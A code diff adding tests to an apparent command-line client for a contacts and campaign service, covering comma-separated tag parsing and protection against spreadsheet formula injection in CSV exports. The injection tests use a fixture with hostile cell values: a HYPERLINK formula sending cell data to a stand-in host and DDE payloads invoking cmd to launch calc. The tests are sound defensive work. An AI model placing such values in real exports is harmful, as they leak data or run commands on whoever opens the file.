@@ -129,6 +129,13 @@ describe('against the fake server', () => {
     );
   });
 
+  it('reads --tag vip,renewal as --tag vip --tag renewal', async () => {
+    const either = all.filter((c) => ['vip', 'renewal'].includes(c.tag_name));
+    expect(either.length).toBeGreaterThan(all.filter((c) => c.tag_name === 'vip').length);
+    expect(await contacts('--tag=vip,renewal')).toEqual(either);
+    expect(await contacts('--tag', 'vip, renewal')).toEqual(either);
+  });
+
   it('passes --limit to the campaign list', async () => {
     expect(defaultFixtures.campaigns.length).toBeGreaterThan(1);
     const result = await runCli(['campaigns', 'list', '--limit', '1'], env());
@@ -196,6 +203,47 @@ describe('against the fake server', () => {
     } finally {
       await server.close();
     }
+  });
+});
+
+describe('CSV of third-party text that a spreadsheet would run as a formula', () => {
+  const hostile: Contact = {
+    ...(defaultFixtures.contacts[0] as Contact),
+    firstname: '=HYPERLINK("http://evil.example/?leak="&A1,"Ada")',
+    lastname: "@SUM(1+1)*cmd|' /C calc'!A0",
+    notes: "-2+3+cmd|' /C calc'!A0",
+  };
+  const fields = 'firstname,lastname,notes,phone_number,number_country_code';
+  const csvOf = async (...extra: string[]) => {
+    const server = await startFakeServer({ contacts: [hostile] });
+    try {
+      const args = ['contacts', 'query', '--format', 'csv', '--fields', fields, ...extra];
+      const result = await runCli(args, {
+        CALLAB_BASE_URL: server.url,
+        CALLAB_API_KEY: server.apiKey,
+      });
+      expect(result).toMatchObject({ code: 0, stderr: '' });
+      return (parse(result.stdout) as string[][])[1];
+    } finally {
+      await server.close();
+    }
+  };
+
+  it('is neutralised with a leading quote; phone numbers stay as they are', async () => {
+    expect(await csvOf()).toEqual([
+      `'${hostile.firstname}`,
+      `'${hostile.lastname}`,
+      `'${hostile.notes}`,
+      hostile.phone_number,
+      hostile.number_country_code,
+    ]);
+    expect(hostile.phone_number).toMatch(/^\+\d+$/);
+  });
+
+  it('is written as it is with --csv-raw-formulas', async () => {
+    expect(await csvOf('--csv-raw-formulas')).toEqual(
+      fields.split(',').map((field) => hostile[field as keyof Contact]),
+    );
   });
 });
 
